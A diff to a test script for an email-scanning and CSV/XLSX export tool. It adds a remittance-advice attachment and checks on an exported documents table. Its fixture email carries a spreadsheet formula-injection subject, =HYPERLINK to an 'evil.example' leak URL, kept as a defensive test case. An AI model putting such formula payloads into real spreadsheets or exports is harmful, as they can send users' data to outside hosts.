@@ -28,7 +28,9 @@ trap 'exit 1' INT TERM
 demo="$FIXTURES/demo"
 db="$tmp/demo.db"
 
-# One more message from Harbor Bakery: a subject a spreadsheet would run.
+# One more message from Harbor Bakery: a subject a spreadsheet would run,
+# and a remittance advice of theirs attached (a camt.054: a client's
+# document, listed in `documents` as received, never a payment of ours).
 mkdir -p "$tmp/extra/cur" "$tmp/extra/new" "$tmp/extra/tmp"
 cat >"$tmp/extra/cur/1795000001.M1P1Q1.extra:2,S" <<'EOF'
 From: Tom Baker <tom@harbor-bakery.example>
@@ -36,8 +38,24 @@ To: lea@studio-nord.example
 Subject: =HYPERLINK("http://evil.example/?leak","menu")
 Date: Thu, 01 Oct 2026 09:00:00 +0200
 Message-ID: <formula-subject@harbor-bakery.example>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="b-remit"
+
+--b-remit
+Content-Type: text/plain; charset=us-ascii
 
 Please see the link.
+--b-remit
+Content-Type: text/xml; name="avis-SN-2026-050.xml"
+Content-Disposition: attachment; filename="avis-SN-2026-050.xml"
+Content-Transfer-Encoding: base64
+
+PD94bWwgdmVyc2lvbj0iMS4wIiBlbmNvZGluZz0iVVRGLTgiPz4KPERvY3VtZW50IHhtbG5zPSJ1
+cm46aXNvOnN0ZDppc286MjAwMjI6dGVjaDp4c2Q6Y2FtdC4wNTQuMDAxLjA4Ij48QmtUb0NzdG1y
+RGJ0Q2R0TnRmY3RuPjxHcnBIZHI+PE1zZ0lkPkhCLVJFTUlULTIwMjYtMTA8L01zZ0lkPjxDcmVE
+dFRtPjIwMjYtMTAtMDFUMDg6NTU6MDArMDI6MDA8L0NyZUR0VG0+PC9HcnBIZHI+PC9Ca1RvQ3N0
+bXJEYnRDZHROdGZjdG4+PC9Eb2N1bWVudD4K
+--b-remit--
 EOF
 
 "$REDFLAG" scan --quiet --db "$db" --config "$demo/redflag.conf" --as-of 2026-11-20 \
@@ -97,7 +115,7 @@ for t in tables:
           "columns: %s\ncsv:     %s" % (cols, csvs[t][0]))
 
 clients = {r[1] for r in csvs["clients"][1:]}
-check(len(clients) == 7 and "harbor" in clients, "clients: the 7 keys of the demo in column client", clients)
+check(len(clients) == 9 and "harbor" in clients, "clients: the 9 keys of the demo in column client", clients)
 for t in tables:
     head, rows = csvs[t][0], csvs[t][1:]
     if "client" not in head:
@@ -123,6 +141,29 @@ m = row("messages", "message_id", "009327ee-1324-b8f5-e174-7c6f8931a157@studio-n
 check((m.get("date_local"), m.get("subject"), m.get("to")) ==
       ("2026-09-01T10:40:00+02:00", "Re: Point d'avancement", "camille.roux@creep-co.example"),
       "messages: summer date in Paris is UTC+2; subject and to", m)
+# documents: Atelier Garance's six Factur-X invoices, each attached to the
+# mail that sent it from billing@ at 10:00 Paris time on its issue date
+# (fixtures/demo/README.md), and Harbor's remittance advice.
+docs = csvs["documents"][1:]
+check(len(docs) == 7, "documents: 6 invoices we sent and 1 document received", len(docs))
+d = row("documents", "file_name", "SN-FX-2026-002.pdf")
+check((d.get("message_id"), d.get("date_local"), d.get("client"), d.get("client_name"), d.get("direction"),
+       d.get("kind"), d.get("use"), d.get("invoice_number"), d.get("reason"), d.get("subject")) ==
+      ("4f96e17e-d9da-086e-5412-d7609143d830@studio-nord.example", "2026-07-03T10:00:00+02:00", "garance",
+       "Atelier Garance", "sent", "invoice", "our_invoice", "SN-FX-2026-002", "",
+       "Facture SN-FX-2026-002 (juillet 2026)"),
+      "documents: SN-FX-2026-002.pdf, sent on 3 July, is our invoice SN-FX-2026-002 of garance", d)
+numbers = {r[csvs["invoices"][0].index("invoice_number")] for r in csvs["invoices"][1:]}
+sent = [dict(zip(csvs["documents"][0], r)) for r in docs if r[3] == "sent"]
+check(sorted(x["invoice_number"] for x in sent) == ["SN-FX-2026-%03d" % i for i in range(1, 7)]
+      and all(x["invoice_number"] in numbers and x["file_name"] == x["invoice_number"] + ".pdf" for x in sent),
+      "documents: each sent PDF names its invoice, and joins to invoices.invoice_number", sent)
+d = row("documents", "file_name", "avis-SN-2026-050.xml")
+check((d.get("message_id"), d.get("client"), d.get("direction"), d.get("kind"), d.get("use"),
+       d.get("invoice_number"), d.get("sha256")) ==
+      ("formula-subject@harbor-bakery.example", "harbor", "received", "payment", "received", "",
+       "b0888e50c0295749392ff774e82126117da0bc0562181abe2416756e21b23433"),
+      "documents: Harbor's camt.054 is a received payment document, no invoice, its SHA-256", d)
 r = row("replies", "reply_message_id", "ef6502ae-dfda-d3c3-d59f-8f4ab08cebdb@studio-nord.example")
 check((r.get("latency_seconds"), r.get("latency_hours"), r.get("parent_date_local")) ==
       ("4800", "1.33", "2026-03-02T09:10:00+01:00"), "replies: 4800 s is 1.33 hours", r)
@@ -248,7 +289,7 @@ a = cell("invoices", "invoice_number", "SN-2026-001", "amount")
 check(a[0] == "number" and a[1] == 1800.0 and "0.00" in a[2] and "EUR" in a[2],
       "xlsx: amount is the number 1800 with 2 decimals and its currency", a)
 sh = cell("scores", "client", "brutal", "revenue_share")
-check(sh[0] == "number" and abs(sh[1] - 0.0902255639097744) < 1e-12 and sh[2].endswith("%"),
+check(sh[0] == "number" and abs(sh[1] - 0.0827586206896552) < 1e-12 and sh[2].endswith("%"),
       "xlsx: revenue_share is a number with a percentage format", sh)
 h = cell("replies", "reply_message_id", "ef6502ae-dfda-d3c3-d59f-8f4ab08cebdb@studio-nord.example", "latency_hours")
 check(h[0] == "number" and h[1] == 1.33, "xlsx: latency_hours is the number 1.33", h)
